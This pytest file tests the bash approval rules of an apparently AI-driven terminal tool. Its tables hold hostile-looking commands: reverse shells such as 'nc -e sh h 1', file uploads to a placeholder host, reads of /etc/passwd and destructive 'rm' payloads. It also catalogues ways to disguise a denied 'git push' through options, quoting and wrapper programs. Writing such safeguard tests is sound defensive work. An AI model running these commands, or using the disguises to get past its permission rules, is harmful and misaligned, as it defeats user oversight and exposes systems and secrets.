"""Line 4: git as a loader, and programs that run programs, by what their arguments mean."""

from pathlib import Path

import pytest

from tests.approvals.ruling import bash, rule
from vega_tui.core.words import Mode, Risk

# Each runs, writes or reaches something beside its program's purpose: no prefix rule covers it, nor does auto mode.
LOADERS = r"""
git -c core.pager='rm y' log
git -c core.fsmonitor=./x status
git -c core.sshCommand=x fetch
git -c alias.st='!rm y' st
git -c diff.external=x diff
git -ccore.pager=x log
git --config-env=core.pager=X log
git --config-env core.pager=X log
git --exec-path=/tmp/evil status
git --git-dir=evil status
git --git-dir evil log
git --work-tree=/ status
git --work-tree /etc add .
git --bare log
git -p log
git --paginate log
git --namespace=x log
git --attr-source=x diff
git --no-pager -c core.pager=x log
git -C sub -c core.pager=x log
git -C /etc status
git -C .. status
git -C ~ status
git -C ~/other log
git -C $X status
git -C sub -C .. log
git --unknown-option value push
git mystery
git st
git lfs pull
git $X
git "$X" y
git pu*
git {push,}
git upload-pack .
git credential fill
git daemon --export-all
git help -w log
git send-email x.patch
git filter-branch --tree-filter 'rm y'
git difftool -x 'rm y'
git mergetool
git instaweb
git hook run pre-commit
git for-each-repo --config=x status
git fast-import
git interpret-trailers --in-place x
git svn fetch
git remote-ext x y
git rebase -x 'rm y' HEAD~2
git rebase --exec 'rm y' HEAD~2
git rebase --exec='rm y' HEAD~2
git rebase --ex='rm y' HEAD~2
git rebase -ix 'rm y' HEAD~2
git rebase -ixrm HEAD~2
git bisect run rm y
git bisect visualize
git submodule foreach 'rm y'
git submodule update --init
git submodule --quiet foreach rm
git submodule add ./x
git fetch --upload-pack='rm y' origin
git fetch --upload-pack x origin
git fetch --upload-p=x origin
git pull --upload-pack=x
git ls-remote --upload-pack=x origin
git ls-remote --exec=x origin
git ls-remote 'ext::sh -c x'
git clone ext::x
git clone 'ext::sh -c rm%20y'
git clone -u x ssh://h/y
git clone --upload-pack x ssh://h/y
git clone -c core.fsmonitor=x https://h/y
git clone --config core.fsmonitor=x https://h/y
git clone --template=/tmp/t https://h/y
git clone --templ /tmp/t https://h/y
git clone ./evil
git clone /tmp/evil
git clone file:///tmp/evil
git clone --separate-git-dir=x https://h/y
git clone --recurse-submodules https://h/y
git fetch ext::x
git fetch ./evil
git fetch ../evil main
git pull ~/evil
git push --receive-pack=x origin
git push --exec=x origin
git push ext::x
git push ../evil HEAD
git remote add o ext::x
git remote set-url o 'ext::sh -c x'
git init --template=/tmp/t
git archive --remote=x HEAD
git archive --exec=x HEAD
git archive -o x HEAD
git archive --output=x HEAD
git bundle create x HEAD
git diff --output=x
git diff --outp=x
git diff --output x
git log --output=x
git show --output=../x
git log -p --ext-diff
git log --ext-d
git diff --ext-diff
git diff --textconv
git show --textc
git cat-file --textconv HEAD:x
git cat-file --filters HEAD:x
git grep -O x
git grep -Ovim x
git grep -nO x
git grep --open-files-in-pager=x y
git grep --op x
git log --show-signature
git log --remerge-diff
git format-patch -o /tmp/x HEAD~1
git format-patch --output-directory=x HEAD~1
git merge -s evil main
git merge --strategy=evil main
git rebase -s evil main
git rebase --strategy evil main
git pull -sevil
git cherry-pick --strategy=evil x
git apply --unsafe-paths x
git config core.pager x
git config --global core.pager x
git config --add core.hooksPath x
git config set core.pager x
git config -e
git config --edit
git config --unset x.y
git config --replace-all a.b c
git config --rename-section a b
git maintenance start
git checkout --recurse-submodules x
/usr/bin/git -c core.pager=x log
find . -exec rm {} +
find . -execdir rm {} ;
find . -ok rm {} ;
find . -okdir rm {} ;
find . -fprint x
find . -fprintf x %p
find . -fprint0 x
find . -fls x
find . -delete
find . -name x -o -delete
find . -name -delete -delete
tar xf a.tar --checkpoint=1 --checkpoint-action=exec='rm y'
tar xf a.tar --checkpoint-action exec=x
tar xf a.tar --checkpoint-a=exec=x
tar -I 'rm y' -xf a.tar
tar -xIf x a.tar
tar xIf x a.tar
tar cIf x a.tar b
tar --use-compress-program=x -xf a.tar
tar --use-c x -xf a.tar
tar xf a.tar --to-command='rm y'
tar xf a.tar --to-co=x
tar -F x -cf a.tar b
tar --info-script=x -cf a.tar b
tar --new-volume-script=x -cf a.tar b
tar --rsh-command=x -xf h:a.tar
tar --rmt-command=x -xf h:a.tar
tar xf host:a.tar
tar --file=host:a.tar -x
tar -T list -cf a.tar
tar --files-from=list -cf a.tar
tar -xPf a.tar
tar --absolute-names -xf a.tar
tar --index-file=x -tvf a.tar
rsync -e 'rm y' a b
rsync -ae x a b
rsync -aex a b
rsync --rsh=x a b
rsync --rs x a b
rsync --rsync-path='rm y' a h:b
rsync -M--x a h:b
rsync --remote-option=x a h:b
rsync --log-file=x a b
rsync --daemon --config=x
zip a.zip b -T -TT 'rm y'
zip -TT x a.zip b
zip --unzip-command=x a.zip b
7z a x.7z @list
cpio -oF x
cpio --rsh-command=x -iF h:a
sed '1e rm y' f
sed -n 'e' f
sed 's/a/b/e' f
sed 's/a/b/ge' f
sed 's/a/b/w x' f
sed 's|a|b|e' f
sed 's,a,b,e' f
sed 'sxaxbxe' f
sed 'w x' f
sed '$w x' f
sed '/a/w x' f
sed '/a/{w x
}' f
sed 'W x' f
sed 'r /etc/passwd' f
sed 'R x' f
sed -f x f
sed --file=x f
sed -nf x f
sed -e p -e 'e rm y' f
sed --expression='e rm y' f
sed -i 's/a/b/e' f
sed -i.bak 'w x' f
sed -ni -e 'e x' f
sed -n '/x/ e rm y' f
sed '1!e rm y' f
sed '1,3e rm y' f
sed ':a;e rm y' f
sed 's/a/b/;e rm y' f
sed 's/[/]/x/e;s/a]/b/e' f
sed '\%x%e rm y' f
sed 'b;e rm y' f
sed '}e x' f
sed 'y/a/b/;w x' f
sed '1~2e x' f
sed '0,/x/e x' f
sed $X f
awk 'BEGIN{system("rm y")}'
awk '{print > "x"}' f
awk '{print >> "x"}' f
awk '{print | "rm y"}' f
awk '{printf "a" > "x"}' f
awk 'BEGIN{"rm y" | getline}' f
awk 'BEGIN{getline < "x"}' f
awk '{print |& "x"}' f
awk -f x f
awk -F: -f x f
awk --file=x f
awk -i inplace '{print}' f
awk -l ext '{print}' f
awk -E x
awk '@load "x"' f
awk 'BEGIN{f="system"; @f("rm y")}'
awk -v x=1 'BEGIN{system("rm")}'
gawk --dump-variables=x 1 f
gawk -o x 1 f
mawk -We x 1 f
jq -f x f
jq -L x . f
jq --from-file x f
jq --slurpfile a /etc/passwd . f
sort -o x f
sort -uo x f
sort --output=x f
sort --compress-program=x f
sort --compress-prog x f
sort -T x f
uniq a b
less +!x f
less -o x f
less --lesskey-src=x f
man -P x ls
man --pager=x ls
man -H x ls
man -l x
vim -c '!rm y' f
vim +'!rm y' f
vim --cmd x f
vim -S x
vim -u x f
emacs --batch --eval x
ex -s f
nvim -l x
rg --pre x y
rg --pre=x y
rg -z x
fd -x rm
fd --exec rm
fd -X rm
tree -o x
make --eval='$(shell rm y)'
make --eval '$(shell rm y)'
make --ev=x
make -f /tmp/x
make -kf /tmp/x
make --file=x
make --makefile x
make -I x
make -C /tmp
make -C ..
make --directory=/tmp
make SHELL=x
make .SHELLFLAGS=x
make CC='rm y;'
make CC=evil
make PYTHON=evil
make X='$(shell rm y)'
make X='a; rm y'
make X='`rm y`'
make X!='rm y'
make X::=';rm y'
npm --script-shell=x run build
npm run build --script-shell x
npm --prefix /tmp/x run y
npm install -g x
npm exec x
npm x y
npm create y
npm exec -c 'rm y'
npm config set script-shell x
npm --node-options=--require=x test
pnpm dlx x
yarn dlx x
yarn --cwd /tmp x
npx -c 'rm y'
npx --call='rm y'
pip install git+https://h/x
pip install https://h/x.whl
pip install /tmp/x
pip install ../x
pip install 'x @ https://h/x'
pip install --index-url=https://h x
pip install -i https://h x
pip install --extra-index-url https://h x
pip install --find-links=x y
pip install -f x y
pip install --target=/tmp x
pip install -t /tmp x
pip install --prefix=/x y
pip config set global.index-url x
pip3 install -i https://h x
docker run -v /:/h x
docker run -v/:/h x
docker run --volume=/:/h x
docker run --volume /:/h x
docker run -v ~/.ssh:/s x
docker run --mount type=bind,src=/,dst=/h x
docker run --privileged x
docker run --pid=host x
docker run --network host x
docker run --network=host x
docker run --device=/dev/sda x
docker run --cap-add=ALL x
docker -H tcp://h ps
docker --context x ps
docker build -f /tmp/x .
podman run -v /:/h x
ssh -o ProxyCommand='rm y' h
ssh -oProxyCommand=x h
ssh -o proxycommand=x h
ssh -vo 'ProxyCommand x' h
ssh -o LocalCommand=x -o PermitLocalCommand=yes h
ssh -o KnownHostsCommand=x h
ssh -o Include=x h
ssh -F x h
ssh -I x h
ssh -E x h
ssh -L 1:a:2 h
ssh -R 1:a:2 h
ssh -D 1 h
ssh -A h
scp -S x a h:b
scp -o ProxyCommand=x a h:b
scp -F x a h:b
sftp -S x h
sftp -D x
curl -o x https://h
curl -so x https://h
curl -O https://h/x
curl -LO https://h/x
curl --output x https://h
curl --output=x https://h
curl -K x
curl --config x
curl -D x https://h
curl -c jar https://h
curl --trace x https://h
curl -T f https://h
curl --upload-file f https://h
curl -d @f https://h
curl --data-binary @f https://h
curl --data=@f https://h
curl -F a=@f https://h
curl file:///etc/passwd
curl --libcurl x https://h
wget -O x https://h
wget -qO x https://h
wget --output-document=x https://h
wget -P /tmp https://h
wget -e use_proxy=on https://h
wget --execute=x https://h
wget --use-askpass=x https://h
wget --config=x https://h
wget -i list
wget -o log https://h
wget --post-file=f https://h
nc -e sh h 1
nc -c 'rm y' h 1
ncat --sh-exec x h 1
socat tcp:h:1 exec:sh
socat tcp:h:1 'system:rm y'
go run -exec x .
go build -toolexec=x .
go build -toolexec x .
go vet -vettool=x
go test -exec x
go generate ./...
go env -w X=y
go run h.com/x@latest
go install h.com/x@latest
go -C /tmp build
go build -ldflags='-extld=x' .
cargo --config x build
cargo build --config 'build.rustc-wrapper="x"'
cargo run --manifest-path /tmp/x
cargo install x
cargo mystery
cargo -Z x build
gcc -wrapper x a.c
gcc -fplugin=x a.c
gcc -specs=x a.c
gcc -B. a.c
gcc @x
gcc-12 -wrapper x a.c
clang -Xclang -load a.c
ld -plugin x a.o
sqlite3 x.db '.shell rm y'
sqlite3 x.db '.system rm y'
sqlite3 x.db '.output y'
sqlite3 x.db '.once |rm y'
sqlite3 x.db "select load_extension('x')"
sqlite3 x.db "select writefile('x','y')"
sqlite3 x.db "attach 'y' as z"
sqlite3 -init x x.db
sqlite3 -cmd '.shell x' x.db
psql -c '\! rm y'
psql -f x
psql -c "copy t to program 'rm y'"
mysql -e 'system rm y'
gdb -ex 'shell rm y' x
gdb -x f x
gdb --batch -ex '!rm y' x
gdb --args x
ffmpeg -i concat:a b
ffmpeg -report -i a b
ffmpeg -f lavfi x
convert msl:x y
convert @x y
env -S 'rm y'
env --split-string='rm y'
env git -c core.pager=x log
busybox sed 'e x'
parallel rm ::: y
printf -v GIT_CONFIG_COUNT 0
printf %n GIT_CONFIG_COUNT
printf 'a%5n' GIT_CONFIG_COUNT
test -v 'a[$(rm y)]'
test -R x
""".strip("\n")


def _lines(table: str) -> list[str]:
    """The commands of a table; a line that ends within quotes goes on."""
    found: list[str] = []
    for line in table.split("\n"):
        if found and found[-1].count("'") % 2:
            found[-1] += "\n" + line
        else:
            found.append(line.replace(" ;", " \\;"))
    return found


def _program(line: str) -> str:
    return line.split()[0]


@pytest.mark.parametrize("line", _lines(LOADERS))
def test_a_prefix_rule_does_not_cover_what_turns_its_program_into_a_loader(line: str) -> None:
    for allow in ([], [f"bash({_program(line)} *)"], [f"bash({_program(line)}*)", "bash(env *)"]):
        for mode in (Mode.MANUAL, Mode.EDITS, Mode.AUTO):
            found = rule("bash", {"command": line}, mode=mode, allow=allow)
            assert found.verdict == "ask", (allow, mode)
            assert found.why


@pytest.mark.parametrize("line", _lines(LOADERS))
def test_what_asks_so_is_remembered_with_its_whole_text_or_not_at_all(line: str) -> None:
    found = rule("bash", {"command": line}, allow=[f"bash({_program(line)} *)"])
    assert found.wider == ""
    if found.rule:
        assert bash(line, allow=[found.rule]) == "allow"


INTERPRETED = r"""
python3 -c 'import os'
python3 -Ic 'import os'
python3 -
python -c x
python3.11 -c x
node -e x
node -pe x
node --eval x
node --eval=x
node --print x
node -r ./x y.js
node --require ./x y.js
node --import ./x y.js
perl -e x
perl -ne x f
perl -pi -e x f
perl -Mx y.pl
perl -E x
ruby -e x
ruby -rx y.rb
php -r x
php -d auto_prepend_file=x y.php
lua -e x
Rscript -e x
deno eval -e x
awk '$3 > 10 {print $1}' f
""".strip("\n")


PUSHES = r"""
git -C . push
git -C sub push origin
git --no-pager push
git -P push
git -c a=b push
git -c a.b=c -C . --no-pager push origin main
git --git-dir=x push
git --git-dir x push
git --work-tree=x --git-dir=y push
git --exec-path=x push
git --namespace x push
git -p push
git --literal-pathspecs push
git --no-optional-locks push
git --config-env=a.b=C push
git $'push'
git $'pu\x73h' origin
git $'\160ush'
git "push" origin
git 'pu'sh
git p\ush
/usr/bin/git -C . push
'git' --no-pager push
timeout 5 git -C . push
env git -C . push
env A=1 git --no-pager push
sudo git -C . push
nice git -c a=b push
bash -c 'git -C . push'
sh -c "git --no-pager push"
ls && git -C . push
echo $(git -C . push)
xargs git --no-pager push
find . -exec git -C . push \;
git rebase -x 'git push' main
git rebase -x 'git -C . push' main
git bisect run git push
git submodule foreach git push
git submodule foreach --recursive 'git push origin'
git -c core.pager='git push' log
git -c alias.x='!git push' x
git fetch --upload-pack='git push' origin
git grep -O'git push' x
tar xf a --to-command='git push'
tar xf a --checkpoint-action=exec='git push'
tar -I 'git push' -xf a
rsync -e 'git push' a b
awk 'BEGIN{system("git push")}'
sed '1e git push' f
vim -c '!git push'
make --eval='$(shell git push)'
make X='git push'
npx -c 'git push'
npm exec -c 'git push'
env -S 'git push'
ssh h git push
ssh h 'git -C x push'
ssh -o ProxyCommand='git push' h
docker exec c git push
busybox git push
sqlite3 x.db '.shell git push'
gdb -ex 'shell git push' x
fd -x git push
python3 -c 'import os; os.system("git push")'
perl -e 'system "git push"'
socat tcp:h:1 'system:git push'
parallel git push ::: a
""".strip("\n")


@pytest.mark.parametrize("line", PUSHES.split("\n"))
@pytest.mark.parametrize("mode", list(Mode))
def test_a_deny_rule_sees_the_verb_behind_options_and_within_what_a_program_runs(line: str, mode: Mode) -> None:
    assert bash(line, mode=mode, allow=["bash"], deny=["bash(git push *)"]) == "deny"


@pytest.mark.parametrize("line", PUSHES.split("\n"))
def test_an_ask_rule_sees_it_too(line: str) -> None:
    assert bash(line, mode=Mode.AUTO, allow=["bash(git *)", "bash(*)"], ask=["bash(git push *)"]) == "ask"


@pytest.mark.parametrize(
    "line", ["git $X", "git mystery", "git pu*", "git --odd x push", "git rebase -x $X main", "tar -I $X -xf a"]
)
def test_in_yolo_what_may_hide_a_denied_command_asks(line: str) -> None:
    assert bash(line, mode=Mode.YOLO, deny=["bash(git push *)"]) == "ask"
    assert bash(line, mode=Mode.YOLO) == "allow"


ORDINARY = r"""
git status
git push origin main
git push -u origin feature/x
git -C sub status
git -C sub commit -m x
git --no-pager log
git -c color.ui=never diff
git -c core.quotePath=false status
git -c core.pager=cat log
git commit -m 'std::move --exec'
git commit -am x
git log --oneline -5
git log --format=%h --since=yesterday
git rebase main
git rebase --continue
git rebase -i HEAD~2
git checkout -b x
git checkout x -- y
git merge main
git merge -s ours main
git fetch --all --prune
git fetch origin main
git pull --rebase
git clone https://h/y z
git clone git@h:x/y.git
git remote -v
git remote add o https://h/x
git stash
git grep -n x
git config user.name
git config --get remote.origin.url
git config --list
git bisect start
git bisect good
git submodule status
git add -A
git restore x
git cherry-pick x
git tag v1
git branch -a
git apply x.patch
git archive HEAD
git format-patch HEAD~1
find . -name '*.py' -newer x
tar xzf a.tgz
tar -czf a.tgz b
tar --exclude=x -cf a.tar b
tar tf a.tar
rsync -av a b
rsync -avz --delete a/ b/
zip -r a.zip b
7z x a.7z
sed -i 's/a/b/g' f
sed -i.bak -e 's/a/b/' -e '/x/d' f
sed -n '1,20p' f
sed -E 's#a/b#c#' f
sed '/a/{n;d}' f
sed ':a;N;$!ba;s/\n/ /g' f
sed '$a text e w r' f
awk '{print $1}' f
awk -F: '{print $1 " " $2}' f
awk -F , -v x=1 '$1 == x || NR < 3' f
jq -r '.a[] | .b' f
make test
make -j4 all
make X=1 test
make VERBOSE=1 V=2 test
make -C sub test
npm test
npm run build -- --config x
npm install
npm ci
pnpm install
yarn build
pip install requests
pip install -r requirements.txt
pip install -e .
pip list
docker ps
docker build -t x .
docker run --rm -v ./src:/src x
docker compose up -d
ssh h ls
ssh -p 22 u@h 'ls -la'
scp a h:b
curl -s https://h
curl -sSfL https://h/x
curl -X POST -d 'a=b' https://h
curl -o /dev/null -s -w '%{http_code}' https://h
wget -q -O - https://h
wget https://h/x
python3 x.py -c y
python3 -m pytest -q
python -m http.server
node x.js -e
perl x.pl
ruby x.rb
go build ./...
go test ./...
go run ./cmd
cargo build --release
cargo test -- --nocapture
cargo clippy
gcc -O2 -o x a.c
sqlite3 x.db 'select 1'
ffmpeg -i a.mp4 b.webm
sort -k2 -n f
less f
man ls
vim f
rg -n x src
""".strip("\n")


@pytest.mark.parametrize("line", ORDINARY.split("\n"))
def test_ordinary_use_stays_covered_by_its_prefix_rule(line: str) -> None:
    assert bash(line, allow=[f"bash({_program(line)} *)"]) == "allow"


@pytest.mark.parametrize(
    "line", ["git -C sub status", "git --no-pager status", "git -c color.ui=never status", "git -P -C . status --short"]
)
def test_an_allow_rule_for_a_verb_covers_it_behind_harmless_options(line: str) -> None:
    assert bash(line, allow=["bash(git status *)"]) == "allow"
    assert bash(line, allow=["bash(git push *)"]) == "ask"


def test_a_folder_that_a_link_leads_out_of_is_another_repository(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    (tmp_path / "other").mkdir()
    (work / "link").symlink_to(tmp_path / "other")
    assert bash("git -C link status", cwd=work, allow=["bash(git *)"]) == "ask"
    assert bash("make -C link", cwd=work, allow=["bash(make *)"]) == "ask"


@pytest.mark.parametrize("line", INTERPRETED.split("\n"))
def test_a_rule_for_an_interpreter_is_a_persons_own_and_never_remembered(line: str) -> None:
    assert bash(line, mode=Mode.AUTO) == "ask"
    assert bash(line, allow=[f"bash({_program(line)} *)"]) == "allow"
    found = rule("bash", {"command": line})
    assert found.wider == ""
    assert found.rule in ("", f"bash({line})")


FREE = r"""
grep -n /api/v1 f
git status
git status -sb
git status --porcelain=v1
git diff
git diff --stat HEAD~1
git diff --cached --name-only
git diff --no-ext-diff
git log --oneline -5
git log -p -3 --stat
git log --graph --all --decorate
git log --author=x --since='2 days ago' --format='%h %s'
git show HEAD
git show --stat HEAD
git -C sub status
git --no-pager log -3
git -c color.ui=never diff
git rev-parse --show-toplevel
git rev-parse HEAD
git ls-files
git ls-tree -r HEAD
git blame a.txt
git describe --tags
git shortlog -sn HEAD
git --version
find . -name '*.py'
find src -type f -newer a -size +1k -print0
find . -maxdepth 2 -not -path './x/*'
sed -n 1,20p f
sed -n '1,20p' f
sed -n '/a/,/b/p' f
sed 's/a/b/g' f
sed -E -e 's|a|b|' -e 3q f
sed '$!d' f
grep -n x f
grep -E 'a|b' f g
grep -c -i x f
ls -la
cat a b
head -5 f
tail -n 20 f
wc -l f
sort -u -k2,2 f
sort -t, -n f
uniq -c f
diff -u a b
date +%s
date -u
file a
du -sh .
stat a
printf '%s\n' x
sha256sum a
cut -d: -f1 a
echo x | sed -n 1p
""".strip("\n")


@pytest.mark.parametrize("line", FREE.split("\n"))
def test_auto_mode_lets_pass_what_only_reads(line: str, tmp_path: Path) -> None:
    found = rule("bash", {"command": line}, cwd=tmp_path, mode=Mode.AUTO)
    assert (found.verdict, found.risk) == ("allow", Risk.LOW), found.why


NOT_FREE = r"""
grep /etc/passwd /etc/passwd
grep -e x /etc/passwd
grep -f x /etc/passwd
sed -n /etc/p /etc/passwd
git push
git commit -m x
git fetch
git branch x
git diff --no-index a /etc/passwd
git log --format=%G?
git diff --submodule=diff
git ls-files --recurse-submodules
git blame --contents=/etc/passwd a
git rev-parse --parseopt
git log --stdin
git describe --dirty
git status --odd
find . -files0-from x
find . -unknown
sed -i 's/a/b/' f
sed -n p $X
sed -s -i d f
sed --in-place=x d f
awk '{print $1}' f
grep -r x .
grep -R x
grep -d recurse x .
grep --directories=recurse x .
grep --dir=recurse x .
grep -nr x .
diff -r a b
diff --recursive a b
diff -l a b
diff --from-file=x b
wc --files0-from=x
du --files0-from=x
sort --files0-from=x
sha256sum -c x
md5sum --check x
date -s 12:00
date --set=12:00
date -f x
file -f x
file -C -m x
file -z x
/bin/ls
./ls
strings @x
make
python3 x.py
npm test
""".strip("\n")


@pytest.mark.parametrize("line", NOT_FREE.split("\n"))
def test_auto_mode_asks_for_the_rest(line: str, tmp_path: Path) -> None:
    assert bash(line, cwd=tmp_path, mode=Mode.AUTO) == "ask"
